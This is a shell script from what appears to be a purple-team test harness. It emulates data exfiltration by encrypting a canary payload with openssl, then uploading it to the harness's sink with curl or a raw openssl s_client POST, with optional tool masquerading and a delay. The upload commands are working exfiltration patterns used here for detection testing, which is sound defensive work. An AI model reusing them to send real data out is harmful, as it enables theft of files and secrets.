#!/bin/sh
# Encrypt-then-upload emulation as a shell pipeline: openssl and curl run as siblings under this sh.
# Benign: encrypts only the harness's canary payload, uploads only to the harness's sink.
#
# usage: sh encrypt-upload.sh ENCRYPT UPLOAD [DELAY_S]
#   ENCRYPT: enc-aes-256-cbc-pbkdf2 | enc-aes-128-ctr-pbkdf2 | cmd-aes-256-cbc | enc-aes-256-cbc-key-iv
#            | none (upload the plaintext payload) | existing (wait for $PURPLE_OUT from another process)
#   UPLOAD:  curl-data-binary | curl-form | curl-upload-file | openssl-s_client | none
# Env: the emulation contract's PURPLE_* variables. OPENSSL / CURL override the tools (masquerade).
set -u

. "$(dirname "$0")/../lib/journal.sh"

ENCRYPT=${1:?encryption route}
UPLOAD=${2:?upload route}
DELAY=${3:-0}
OPENSSL=${OPENSSL:-openssl}
CURL=${CURL:-curl}
ME=$$
journal start "$ME" "$PPID" "{\"script\": \"encrypt-upload.sh\", \"encrypt\": \"$ENCRYPT\", \"upload\": \"$UPLOAD\", \"delay_s\": $DELAY}"

fail() {
  journal note "$ME" "$PPID" "{\"error\": \"$1\"}"
  journal exit "$ME" "$PPID" '{"code": 1}'
  echo "encrypt-upload.sh: $1" >&2
  exit 1
}

# Runs a child in the background so its real pid goes into the journal, then waits for it.
run_child() {
  "$@" &
  CHILD=$!
  wait "$CHILD"
  RC=$?
}

RC=0

BODY=$PURPLE_OUT
case "$ENCRYPT" in
  enc-aes-256-cbc-pbkdf2)
    CIPHER=aes-256-cbc-pbkdf2
    run_child "$OPENSSL" enc -aes-256-cbc -pbkdf2 -salt -pass "file:$PURPLE_PASSFILE" -in "$PURPLE_PAYLOAD" -out "$PURPLE_OUT.part" ;;
  enc-aes-128-ctr-pbkdf2)
    CIPHER=aes-128-ctr-pbkdf2
    run_child "$OPENSSL" enc -aes-128-ctr -pbkdf2 -salt -pass "file:$PURPLE_PASSFILE" -in "$PURPLE_PAYLOAD" -out "$PURPLE_OUT.part" ;;
  cmd-aes-256-cbc)
    CIPHER=aes-256-cbc-pbkdf2
    run_child "$OPENSSL" aes-256-cbc -pbkdf2 -salt -pass "file:$PURPLE_PASSFILE" -in "$PURPLE_PAYLOAD" -out "$PURPLE_OUT.part" ;;
  enc-aes-256-cbc-key-iv)
    CIPHER=aes-256-cbc-raw
    run_child "$OPENSSL" enc -aes-256-cbc -K "$PURPLE_KEY_HEX" -iv "$PURPLE_IV_HEX" -in "$PURPLE_PAYLOAD" -out "$PURPLE_OUT.part" ;;
  none) CIPHER=none; BODY=$PURPLE_PAYLOAD ;;
  existing) CIPHER=existing ;;
  *) fail "unknown encryption route $ENCRYPT" ;;
esac

case "$ENCRYPT" in
  enc-*|cmd-*)
    [ "$RC" -eq 0 ] || fail "openssl exited with $RC"
    # Rename only when complete: a detached uploader waits for this file.
    mv "$PURPLE_OUT.part" "$PURPLE_OUT"
    journal encrypt "$CHILD" "$ME" "{\"tool\": \"openssl\", \"cipher\": \"$CIPHER\", \"bytes\": $(file_bytes "$PURPLE_OUT")}" ;;
  existing)
    n=0
    while [ ! -f "$PURPLE_OUT" ]; do
      n=$((n + 1))
      [ "$n" -le 600 ] || fail "ciphertext did not appear within 60s"
      sleep 0.1
    done ;;
esac

if [ "$UPLOAD" != none ] && [ "$DELAY" != 0 ]; then
  journal note "$ME" "$PPID" "{\"sleep_s\": $DELAY, \"why\": \"delay between encryption and upload\"}"
  sleep "$DELAY"
fi

DEST=$(url_hostport "$PURPLE_SINK_URL")
PROTO=http
TOOL=curl
# The control marker as the User-Agent (docs/controls.md); older harnesses set no PURPLE_USER_AGENT.
UA=${PURPLE_USER_AGENT:-purple-harness/1}
case "$UPLOAD" in
  curl-data-binary)
    run_child "$CURL" -sS --fail -o /dev/null -A "$UA" -X POST -H "Authorization: Bearer $PURPLE_SINK_TOKEN" \
      -H 'Content-Type: application/octet-stream' --data-binary "@$BODY" "$PURPLE_SINK_URL" ;;
  curl-form)
    run_child "$CURL" -sS --fail -o /dev/null -A "$UA" -H "X-Purple-Token: $PURPLE_SINK_TOKEN" -F "file=@$BODY" "$PURPLE_SINK_URL" ;;
  curl-upload-file)
    run_child "$CURL" -sS --fail -o /dev/null -A "$UA" -H "Authorization: Bearer $PURPLE_SINK_TOKEN" -T "$BODY" "$PURPLE_SINK_URL" ;;
  openssl-s_client)
    # HTTPS by hand: the request head and the ciphertext piped into s_client. Needs the sink's TLS
    # listener, announced as PURPLE_SINK_TLS=127.0.0.1:<port>.
    [ -n "${PURPLE_SINK_TLS:-}" ] || fail "the sink has no TLS listener (PURPLE_SINK_TLS is not set)"
    DEST=$PURPLE_SINK_TLS
    TOOL=openssl-s_client
    UPATH=/${PURPLE_SINK_URL#*://*/}
    HEAD=$(printf 'POST %s HTTP/1.1\r\nHost: %s\r\nX-Purple-Token: %s\r\nContent-Type: application/octet-stream\r\nContent-Length: %s\r\nConnection: close\r\n\r\n' \
      "$UPATH" "$DEST" "$PURPLE_SINK_TOKEN" "$(file_bytes "$BODY")"; echo x)
    HEAD=${HEAD%x}
    { printf '%s' "$HEAD"; cat "$BODY"; } | "$OPENSSL" s_client -quiet -connect "$DEST" > /dev/null 2>&1 &
    CHILD=$!
    wait "$CHILD"
    RC=$? ;;
  none) journal exit "$ME" "$PPID" '{"code": 0}'; exit 0 ;;
  *) fail "unknown upload route $UPLOAD" ;;
esac
[ "$RC" -eq 0 ] || fail "$TOOL exited with $RC"
journal upload "$CHILD" "$ME" "{\"tool\": \"$TOOL\", \"protocol\": \"$PROTO\", \"destination\": \"$DEST\", \"bytes\": $(file_bytes "$BODY")}"
journal exit "$ME" "$PPID" '{"code": 0}'
